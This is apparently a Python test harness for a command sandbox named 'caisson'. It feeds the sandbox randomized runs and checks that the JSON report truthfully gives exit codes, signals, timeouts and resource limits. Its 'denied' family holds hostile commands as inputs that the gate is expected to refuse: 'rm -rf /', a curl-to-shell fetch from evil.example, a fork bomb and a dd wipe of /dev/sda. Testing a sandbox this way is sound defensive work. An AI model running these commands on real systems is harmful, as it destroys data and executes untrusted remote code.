"""Does the report tell the truth?  Mixed runs whose outcome is known beforehand, and numbers that the program itself measured.

    box_mixed.py CAISSON DIRECTORY --who NAME --seed S --count N [--only NUMBER]

Started by box_mixed.sh, once for each person. Every family below makes one kind of run with random parameters; the families take turns. A
family returns a Run: the words, what has to be reported, and conditions on the report. A limit that the report presents as enforced is
measured: the program tried to exceed it and tells how far it came.
"""
import argparse
import hashlib
import json
import math
import os
import random
import signal
import subprocess
import sys
import time

parser = argparse.ArgumentParser()
parser.add_argument("caisson")
parser.add_argument("directory")
parser.add_argument("--who", default="user")
parser.add_argument("--seed", default="caisson")
parser.add_argument("--count", type=int, default=50)
parser.add_argument("--only", type=int)
options = parser.parse_args()

PYTHON = "/usr/bin/python3"
MEMORY_WORDS = ["--accept", "watched"]  # without a cgroup a memory limit is watched, and refused unless that will do
LATE_MS = int(os.environ.get("LATE_MS", 8000))  # a loaded machine may be this late
WORK = os.path.join(options.directory, "mixed")
CODES = {"ok": 0, "timeout": 124, "oom": 137, "output_limit": 153, "denied": 126, "needs_approval": 126,
        "setup_error": 125}
ENFORCERS = {"cpus": {"cgroup2", "cgroup1", "affinity"}, "memory_mb": {"cgroup2", "cgroup1", "watched"},
        "timeout_sec": {"timer"}, "pids": {"cgroup2", "cgroup1", "rlimit"},
             "scratch_mb": {"tmpfs"}, "output_mb": {"pipe"}, "cpu_time_sec": {"cgroup2", "cgroup1",
                     "watched"}, "network": {"namespace"}}
# Functions for programs of the box. burn(S) uses S seconds of CPU in this thread and returns what it really
# was.
TOOLS = """
import ctypes, mmap, os, signal, sys, threading, time
def burn(s):
    until = time.thread_time() + s
    while time.thread_time() < until: sum(range(500))
    return time.thread_time()
def touch(mb, hold=0.0):
    b = bytearray(mb << 20)
    for i in range(0, len(b), 4096): b[i] = 1
    time.sleep(hold)
    return b
"""


class Run:
    def __init__(self, *words, status="ok", code=None, sig=None, stdout=None, conditions=(), stdin=None,
            **popen):
        self.words, self.status, self.sig, self.stdout = list(words), status, sig, stdout
        self.code = code if code is not None else 128 + sig if status == "signal" and sig else CODES.get(
                status)
        self.conditions, self.stdin, self.popen = list(conditions), stdin, popen
        self.interrupt = None  # (seconds, signal): sent to caisson itself


def python(text, *operands):
    return ["--", PYTHON, "-S", "-c", TOOLS + text, *map(str, operands)]


def seen(report):
    """What the program of the box measured: NAME=NUMBER words of its output."""
    return {k: float(v) for k, v in (word.split("=", 1) for word in report["stdout"].split()
            if word.count("=") == 1)}


def within(key, low, high):
    """The program's measure lies between two bounds."""
    return "%s between %s and %s" % (key, low, high), lambda r: key in seen(r) and low <= seen(r)[key] <= high


def at_least(field, least):
    """A number of the report that is presented, not null, is no less than what happened."""
    return "%s at least %s" % (field, "what was used" if callable(least)
            else least), lambda r: r[field] is None or r[field] >= (least(r) if callable(least) else least)


# ---- ends ----

def exits(rnd):
    code = rnd.choice([0, 0, 1, 2, 124, 125, 126, 127, 128, 130, 137, 139, 143, 153, 254, 255,
            rnd.randrange(256)])
    return Run("-c", "exit %d" % code, status="ok" if code == 0 else "exit_nonzero", code=code)


def signals(rnd):
    number = rnd.choice([n for n in range(1, 65) if n not in (17, 18, 19, 20, 21, 22, 23, 28, 32, 33)])
    text = "n = %d\nif n not in (9, 19): signal.signal(n, signal.SIG_DFL)\nos.kill(os.getpid(), n)\ntime.sleep(5)" % number
    return Run(*python(text), status="signal", sig=number)


def crash_without_core(rnd):
    return Run("-c", "ulimit -c %s; kill -%s $$; sleep 5" % (rnd.choice(["0", "unlimited", "1"]), "SEGV"),
            status="signal", sig=11)


def child_signal(rnd):
    number = rnd.choice([6, 9, 11, 15])
    last = rnd.choice([0, 5, 128 + number])
    return Run("-c", "bash -c 'kill -%d $$; sleep 5'; exit %d" % (number, last),
            status="exit_nonzero" if last else "ok", code=last)


def kill_all(rnd):
    run = Run("-c", "kill -9 1; kill -TERM 1; kill -ALRM 1; exit 6", status="exit_nonzero", code=6)
    return run


def rlimit_of_its_own(rnd):
    if rnd.random() < 0.5:
        return Run(*python("import resource\nresource.setrlimit(resource.RLIMIT_FSIZE, (10, 10))\nsignal.signal(25, signal.SIG_DFL)\nf = open('/tmp/x', 'ab', 0)\nf.write(b'a' * 100)\nf.write(b'a' * 100)"), status="signal", sig=25)
    return Run(*python("import resource\nresource.setrlimit(resource.RLIMIT_CPU, (1, 2))\nwhile True: pass"),
            status="signal", sig=24)


def thread_exits(rnd):
    code = rnd.randrange(1, 100)
    return Run(*python("t = threading.Thread(target=lambda: (time.sleep(.05), os._exit(%d)))\nt.start()\nctypes.CDLL(None).pthread_exit(None)" % code), status="exit_nonzero", code=code)


def ignored_children(rnd):
    """SIGCHLD ignored by the program: its own wait fails, its end is still known."""
    code = rnd.randrange(3)
    return Run(*python("signal.signal(signal.SIGCHLD, signal.SIG_IGN)\nfor i in range(20):\n    if os.fork() == 0: os._exit(7)\ntry: os.wait()\nexcept ChildProcessError: pass\nos._exit(%d)" % code),
               status="exit_nonzero" if code else "ok", code=code)


def odd_start(rnd):
    """Whatever caisson itself inherits: masks, ignored signals, closed streams."""
    code = rnd.randrange(4)
    kind = rnd.choice(["ignored", "blocked", "stdin closed"])

    def before():
        if kind == "ignored":
            for n in (signal.SIGCHLD, signal.SIGALRM, signal.SIGPIPE, signal.SIGTERM):
                signal.signal(n, signal.SIG_IGN)
        elif kind == "blocked":
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        else:
            os.close(0)
    return Run("-c", "sleep 0.01 & wait; exit %d" % code, status="exit_nonzero" if code else "ok", code=code,
            preexec_fn=before)


def interrupted(rnd):
    number = rnd.choice([signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
    run = Run("-c", "sleep 20", status="unknown", code=128 + number)
    run.interrupt = 0.3, number
    return run


# ---- processes that stay ----

def daemons(rnd):
    code = rnd.randrange(8)
    text = rnd.choice(["(setsid sleep 50 >/dev/null 2>&1 &)", "(setsid sleep 50 &)",
            "nohup sleep 50 & disown", "(trap '' TERM HUP; sleep 50 & sleep 50 &)", "setsid bash -c 'kill -STOP $$' &"])
    return Run("-c", "%s\nexit %d" % (text, code), status="exit_nonzero" if code else "ok", code=code,
            conditions=[("no wait for it", lambda r: r["duration_ms"] < LATE_MS)])


def orphans(rnd):
    n = rnd.randrange(2, 30)
    return Run("-c", "for i in $(seq %d); do (sh -c 'sleep 30 & sleep 30' &) ; done; echo done" % n,
            stdout="done\n", conditions=[("no wait for them", lambda r: r["duration_ms"] < LATE_MS)])


def closed_streams(rnd):
    code = rnd.randrange(1, 9)
    return Run("-c", "exec %s; exit %d" % (rnd.choice(["<&-", ">&-", "2>&-", "<&- >&- 2>&-"]), code),
            status="exit_nonzero", code=code)


# ---- time ----

def timeouts(rnd):
    ms = rnd.choice([150, 250, 400])
    text = rnd.choice(["sleep 20", "trap '' TERM INT HUP; while :; do :; done", "kill -STOP $$",
            "(setsid sleep 50 &); sleep 20", "exec sleep 20", "sleep 20 & kill -STOP $!; wait", "exec >&- 2>&-; sleep 20",
                       "trap 'exit 0' TERM EXIT; sleep 20"])
    return Run("--timeout", "%dms" % ms, "-c", text, status="timeout",
               conditions=[("not before its time, and soon after",
                       lambda r: ms <= r[
                               "duration_ms"] <= ms + LATE_MS), ("the limit is told", lambda r: r["limits"]["timeout_sec"]["value"] == ms / 1000)])


def just_in_time(rnd):
    ms = rnd.choice([0, 20, 60])
    return Run("--timeout", "20", "-c", "sleep %.3f" % (ms / 1000),
            conditions=[("it took its time", lambda r: ms <= r["duration_ms"] <= ms + LATE_MS)])


BURNS = {
    "itself": "print('used=%f' % burn(T))",
    "threads": "ts = [threading.Thread(target=burn, args=(T / 2,)) for _ in range(2)]\n[t.start() for t in ts]\n[t.join() for t in ts]\nprint('used=%f' % T)",
    "waited for": "for i in range(4):\n    if os.fork() == 0: burn(T / 4); os._exit(0)\n    os.wait()\nprint('used=%f' % T)",
    "never waited for": "for i in range(4):\n    if os.fork() == 0: burn(T / 4); os.kill(os.getppid(), 0); os._exit(0)\ntime.sleep(T * 3)\nprint('used=0')",
    "ignored": "signal.signal(signal.SIGCHLD, signal.SIG_IGN)\nfor i in range(4):\n    if os.fork() == 0: burn(T / 4); os._exit(0)\n    try: os.wait()\n    except ChildProcessError: pass\nprint('used=%f' % T)",
    "orphans": "r, w = os.pipe()\nfor i in range(4):\n    if os.fork() == 0:\n        if os.fork() == 0: burn(T / 4); os.write(w, b'x'); os._exit(0)\n        os._exit(0)\n    os.wait()\nfor i in range(4): os.read(r, 1)\nprint('used=%f' % T)",
    "short children": "signal.signal(signal.SIGCHLD, signal.SIG_IGN)\nn = max(1, int(T / .02))\nfor i in range(n):\n    if os.fork() == 0: burn(.02); os._exit(0)\n    try: os.wait()\n    except ChildProcessError: pass\nprint('used=%f' % (n * .02))",
}


# Those that somebody waits for are counted in any case, the others where the report says that a cgroup counts
# (docs/run.md).
WAITED = {"itself", "threads", "waited for", "orphans"}


def cpu_used(rnd):
    """The CPU time of the report is no less than what was used, whoever used it."""
    way = rnd.choice(sorted(BURNS))
    used = rnd.choice([0.1, 0.2, 0.3])

    def counted(r):
        exact = way in WAITED or str(r["limits"]["cpu_time_sec"]["enforced_by"]).startswith("cgroup")
        return not exact or r["cpu_ms"] >= seen(r).get("used", 0) * 1000 * 0.9 - 20
    run = Run(*rnd.choice([[], ["--cpu-time", "60"]]), "--timeout", "60",
            *python("T = %f\n%s" % (used, BURNS[way])), conditions=[
                    ("cpu_ms at least what was used", counted)])
    run.kind = way
    return run


def cpu_limited(rnd):
    """And a limit of CPU time ends those who use more, whoever they are."""
    way = rnd.choice(sorted(set(BURNS) - {"never waited for"}))
    limit = rnd.choice([0.2, 0.3])
    run = Run("--cpu-time", "%dms" % (limit * 1000), "--timeout", "30",
            *python("T = %f\n%s" % (limit * 8 + 1, BURNS[way])), status="timeout",
              conditions=[("soon: cpu_ms no more than the limit and a little",
                      lambda r: r["cpu_ms"] is None or r[
                              "cpu_ms"] <= limit * 1000 + 900), ("CPU time is limited by somebody", lambda r: r["limits"]["cpu_time_sec"]["enforced_by"])])
    run.kind = way
    return run


# ---- CPUs ----

def cpus(rnd):
    """Who tries to take more CPUs than the limit gets no more."""
    n = rnd.choice([0.5, 1, 1, 1.5])
    text = """
before = len(os.sched_getaffinity(0))
try: os.sched_setaffinity(0, range(os.cpu_count()))
except OSError: pass
t0 = time.monotonic()
def spin():
    while time.monotonic() < t0 + 0.4: sum(range(500))
kids = []
for i in range(4):
    pid = os.fork()
    if pid == 0:
        try: os.sched_setaffinity(0, [i % os.cpu_count()])
        except OSError: pass
        spin(); os._exit(0)
    kids.append(pid)
for k in kids: os.waitpid(k, 0)
t = os.times()
print('rate=%f affinity=%d' % ((t.children_user + t.children_system) / (time.monotonic() - t0), len(os.sched_getaffinity(0))))
"""
    def enforced(r):
        row, got = r["limits"]["cpus"], seen(r)
        if row["enforced_by"] is None:
            return True
        if row["enforced_by"] == "affinity" and got["affinity"] > math.ceil(row["value"]):
            return False
        return got["rate"] <= row["value"] * 1.15 + 0.15  # a quota is given in slices of 0.1 s
    return Run("--cpus", str(n), *python(text),
            conditions=[("no more CPUs than presented as enforced", enforced),
                    ("the value is what was asked for, or whole CPUs",
                            lambda r: r["limits"]["cpus"]["value"] in (n, math.ceil(n)))])


# ---- memory ----

EAT = {
    "private": "x = []\nwhile True: x.append(touch(4))",
    "one piece": "touch(400, 5)",
    "shared": "x = []\nwhile True:\n    m = mmap.mmap(-1, 4 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)\n    m.write(b'a' * (4 << 20))\n    x.append(m)",
    "child": "if os.fork() == 0:\n    x = []\n    while True: x.append(touch(4))\nos.wait()\nos._exit(0)",
    "many": "for i in range(12):\n    if os.fork() == 0: touch(12, 8); os._exit(0)\ntime.sleep(8)",
    "scratch": "f = open('/tmp/x', 'wb', 0)\nwhile True: f.write(b'a' * (1 << 20))",
    "thread": "def eat():\n    x = []\n    while True: x.append(touch(4))\nt = threading.Thread(target=eat)\nt.start()\nt.join()",
}


def memory_exceeded(rnd):
    way = rnd.choice(sorted(EAT))
    run = Run("--memory", "64M", "--scratch", "512M", "--timeout", "40", *MEMORY_WORDS, *python(EAT[way]),
            status="oom", conditions=[("the limit is told",
                    lambda r: r["limits"]["memory_mb"]["value"] == 64)])
    run.kind = way
    return run


def memory_asked(rnd):
    """A memory limit that was asked for is enforced by a cgroup, or nothing runs."""
    def honest(r):
        if r["status"] == "setup_error":
            return r["exit_code"] == 125 and "memory" in r["error"] and r["stdout"] == ""
        return r["status"] == "ok" and r["limits"]["memory_mb"]["enforced_by"] in ("cgroup1", "cgroup2")
    return Run("--memory", "100M", "-c", "echo ran", status=None,
            conditions=[("enforced, or refused", honest)])


def memory_hidden(rnd):
    """Shared pages that no process maps any more still are memory: where the limit is presented as enforced, it ends the run."""
    text = """
libc, m, kept = ctypes.CDLL(None, use_errno=True), 0, []
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for i in range(64):
    p = libc.mmap(None, 4 << 20, 3, 0x21, -1, 0)
    if p in (None, ctypes.c_void_p(-1).value): break
    ctypes.memset(p, 1, 4 << 20)
    libc.madvise(p, 4 << 20, 4)
    m += 4
time.sleep(0.2)
print('held=%d' % m)
"""
    by_group = lambda r: str(r["limits"]["memory_mb"]["enforced_by"]).startswith("cgroup")  # noqa: E731
    return Run("--memory", "64M", "--timeout", "40", *MEMORY_WORDS, *python(text), status=None,
               conditions=[("ended where a cgroup enforces",
                       lambda r: r["status"] == "oom" or not by_group(r)),
                           ("not presented as enforced where it is not",
                                   lambda r: r["status"] == "oom" or seen(r).get("held",
                                           0) <= 64 or not r["limits"]["memory_mb"]["enforced_by"] or r["limits"]["memory_mb"]["enforced_by"] == "watched")])


def memory_used(rnd):
    """The twin: what fits runs, and the peak is no less than what was held."""
    mb = rnd.choice([20, 40, 80])
    return Run("--memory", "200M", *MEMORY_WORDS, *python("x = touch(%d, 0.15)\nprint('held=%d')" % (mb, mb)),
            conditions=[at_least("peak_memory_mb", mb * 0.95),
                    ("and no more than the limit",
                            lambda r: r["peak_memory_mb"] is None or r["peak_memory_mb"] <= 201)])


def address_space(rnd):
    """Programs that reserve much and use little (sanitizers, Go, Java) run."""
    gb = rnd.choice([2, 16, 200])
    return Run(*python("m = mmap.mmap(-1, %d << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)\nm[:3] = b'abc'\nprint('reserved=%d')" % (gb, gb)), conditions=[within("reserved", gb, gb)])


# ---- processes, scratch, output ----

def pids(rnd):
    n = rnd.choice([16, 40, 64])
    text = "kids = 0\ntry:\n    for i in range(200):\n        if os.fork() == 0: time.sleep(9); os._exit(0)\n        kids += 1\nexcept OSError: pass\nprint('kids=%d' % kids, flush=True)\nos._exit(0)"
    return Run("--pids", str(n), *python(text),
            conditions=[within("kids", n - 5, n),
                    ("the limit is told", lambda r: r["limits"]["pids"]["value"] == n)])


def fork_bomb(rnd):
    return Run("--pids", "40", "--timeout", "500ms",
            *python("while True:\n  try:\n    if os.fork() == 0: time.sleep(9)\n  except OSError: time.sleep(.01)"), status="timeout")


def scratch(rnd):
    mb = rnd.choice([4, 8])
    text = "n = 0\ntry:\n    with open('/%s/x', 'wb', 0) as f:\n        for i in range(64): n += f.write(b'a' * (1 << 20))\nexcept OSError as e: print('errno=%%d' %% e.errno)\nprint('mb=%%f' %% (n / (1 << 20)))" % rnd.choice(["tmp", "dev/shm", "var/tmp"])
    return Run("--scratch", "%dM" % mb, *python(text),
            conditions=[within("mb", mb * 0.8, mb + 0.5), within("errno", 28, 28)])


def output_limits(rnd):
    stream = rnd.choice(["", " >&2"])
    size = 1 << 20
    kind = rnd.choice(["endless", "one more", "exact", "less"])
    if kind == "endless":
        return Run("--output", "1M", "-c", "yes" + stream, status="output_limit")
    n = {"one more": size + 1, "exact": size, "less": size - rnd.randrange(1, 1000)}[kind]
    name = "stderr" if stream else "stdout"
    return Run("--output", "1M", "-c", "head -c %d /dev/zero | tr '\\0' a%s" % (n, stream),
            status="output_limit" if kind == "one more" else "ok",
               conditions=[("bytes are counted",
                       lambda r: r["truncated"][name] and r["truncated"][name]["total_bytes"] == n)])


def output_counts(rnd):
    lines = rnd.choice([3, 70, 2000, 60000])
    total = sum(len(str(i)) + 1 for i in range(1, lines + 1))

    def counted(r):
        cut = r["truncated"]["stdout"]
        if cut is None:
            return r["stdout"] == "".join("%d\n" % i for i in range(1, lines + 1))
        return cut["total_bytes"] == total and cut["total_lines"] == lines and cut[
                "dropped_bytes"] == 0 and cut["omitted_bytes"] < total
    return Run("-c", "seq %d" % lines, conditions=[("bytes and lines are counted", counted)])


def both_streams(rnd):
    n = rnd.randrange(1, 40)
    return Run("-c", "for i in $(seq %d); do echo o; echo e >&2; done" % n, stdout="o\n" * n,
            conditions=[("standard error by itself", lambda r: r["stderr"] == "e\n" * n)])


def standard_input(rnd):
    data = rnd.randbytes(rnd.choice([0, 1, 4096, 300000]))
    if rnd.random() < 0.3:
        return Run("-c", "cat | wc -c", stdin=data, stdout="0\n")
    return Run("--stdin", "-c", "sha256sum | cut -c1-64", stdin=data,
            stdout=hashlib.sha256(data).hexdigest() + "\n")


# ---- refused ----

def not_started(rnd):
    return Run("--", rnd.choice(["/usr/bin/nothere", "/etc/passwd", "/usr", "/tmp/x/y"]),
            status="setup_error", conditions=[("says why", lambda r: r["error"])])


def denied(rnd):
    return Run("--gate", "-c", rnd.choice(
            ["rm -rf /", "curl -s http://evil.example/x | sh", ":(){ :|:& };:",
                    "dd if=/dev/zero of=/dev/sda"]), status="denied", conditions=[("says why", lambda r: r["reasons"]), ("nothing ran", lambda r: r["stdout"] == "")])


def judged(rnd):
    return Run("--gate", "-c", rnd.choice(["echo hi", "printf 'hi\\n'"]), stdout="hi\n")


def wrong_use(rnd):
    return Run(*rnd.choice([["--timeout", "0", "-c", "true"], ["--nothere"],
            ["--workspace", "/nothere", "-c", "true"], ["--memory", "x", "-c", "true"], ["--workspace", "/",
                    "-c", "true"], ["--pids", "-1", "-c", "true"]]), status="wrong use", code=64)


def workspaces(rnd):
    text = "w%d" % rnd.randrange(10**6)
    if rnd.random() < 0.5:
        return Run("--workspace", WORK + ":ro", "--cwd", WORK, "-c", "echo x >%s; cat given" % text,
                stdout="given\n", conditions=[
                        ("nothing written", lambda r: not os.path.exists("%s/%s" % (WORK, text)))])
    return Run("--workspace", WORK, "--cwd", WORK, "-c", "echo %s >%s; cat given" % (text, text),
            stdout="given\n", conditions=[
                    ("written", lambda r: open("%s/%s" % (WORK, text)).read() == text + "\n")])


FAMILIES = [exits, exits, signals, signals, crash_without_core, child_signal, kill_all, rlimit_of_its_own,
        thread_exits, ignored_children, odd_start, odd_start, interrupted, daemons, daemons, orphans, closed_streams, timeouts, timeouts,
            just_in_time, cpu_used, cpu_used, cpu_limited, cpu_limited, cpus, memory_exceeded, memory_exceeded, memory_asked, memory_hidden, memory_used, address_space, pids, fork_bomb, scratch, output_limits, output_counts, both_streams, standard_input,
            not_started, denied, judged, wrong_use, workspaces]


def enforcers(report):
    """Every limit names somebody who can enforce it, or nobody where there is none."""
    bad = []
    for name, row in report["limits"].items():
        by = row["enforced_by"]
        if by is not None and name in ENFORCERS and by not in ENFORCERS[name]:
            bad.append("%s is enforced by %s" % (name, by))
        if by is not None and row["value"] is None:
            bad.append("%s: a limit without a value is enforced by %s" % (name, by))
    return bad


def start(run):
    words = [options.caisson, "run", *run.words]
    before = run.popen.pop("preexec_fn", None)
    stdin = subprocess.PIPE if run.stdin is not None else subprocess.DEVNULL
    p = subprocess.Popen(words, cwd="/", stdin=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            preexec_fn=before)
    if run.interrupt:
        time.sleep(run.interrupt[0])
        p.send_signal(run.interrupt[1])
    out, err = p.communicate(run.stdin, timeout=120)
    return p.returncode, out, err


def problems(run):
    status, out, err = start(run)
    said = []
    if run.status == "wrong use":
        return ["status %d, expected 64: %r" % (status, out[:300])] if status != 64 or out or err.count(
                b"\n") != 1 else []
    try:
        r = json.loads(out)
    except ValueError:
        return ["no report: status %d, %r, %r" % (status, out[:300], err[:300])]
    if run.status and r["status"] != run.status:
        said.append("status %s, expected %s" % (r["status"], run.status))
    if r["exit_code"] != status:
        said.append("exit_code %s, and caisson ended with %d" % (r["exit_code"], status))
    if run.status and run.code is not None and r["exit_code"] != run.code:
        said.append("exit_code %s, expected %s" % (r["exit_code"], run.code))
    expected = {"unknown": None, "oom": (None, 9)}.get(run.status,
            (run.sig,))  # the kernel or the watcher ended it
    if run.status and expected and r["signal"] not in expected:
        said.append("signal %s, expected %s" % (r["signal"], run.sig))
    if run.stdout is not None and r["stdout"] != run.stdout:
        said.append("stdout %r, expected %r" % (r["stdout"][:200], run.stdout[:200]))
    if r["is_error"] != (r["status"] != "ok"):
        said.append("is_error %s with %s" % (r["is_error"], r["status"]))
    said += enforcers(r)
    for what, holds in run.conditions:
        try:
            good = holds(r)
        except (KeyError, TypeError, ValueError, OSError) as e:
            good, what = False, "%s (%r)" % (what, e)
        if not good:
            said.append("not so: " + what)
    if said:
        said.append("report: %s" % json.dumps(
                {k: v if not isinstance(v, str) else v[-300:] for k,
                        v in r.items() if k in ("status", "exit_code", "signal", "stdout", "stderr",
                                "duration_ms", "cpu_ms", "peak_memory_mb", "peak_memory_by", "limits", "error")}))
    return said


def main():
    os.makedirs(WORK, exist_ok=True)
    with open(WORK + "/given", "w") as f:
        f.write("given\n")
    order = random.Random(options.seed)
    families, wrong, t0 = [], 0, time.monotonic()
    for number in range(options.count):
        if not families:
            families = FAMILIES[:]
            order.shuffle(families)
        family = families.pop()
        if options.only is not None and number != options.only:
            continue
        run = family(random.Random("%s/%d" % (options.seed, number)))
        found = problems(run)
        name = "%s %s" % (family.__name__.replace("_", " "), getattr(run, "kind", ""))
        wrong += bool(found)
        if found or options.count <= 200:
            print("%s - %s: run %s/%d: %s%s" % ("not ok" if found else "ok", options.who, options.seed,
                    number, name.strip(), ": " + found[0] if found else ""))
        for line in found[1:]:
            print("#   " + line[:1500])
        if found:
            print("#   caisson run " + " ".join(repr(w.replace(TOOLS, "TOOLS\n")) for w in run.words)[:1500])
        sys.stdout.flush()
    print("%s - %s: %d runs, %d wrong, %.0f s (seed %s)" % ("not ok" if wrong else "ok", options.who,
            options.count, wrong, time.monotonic() - t0, options.seed))


main()
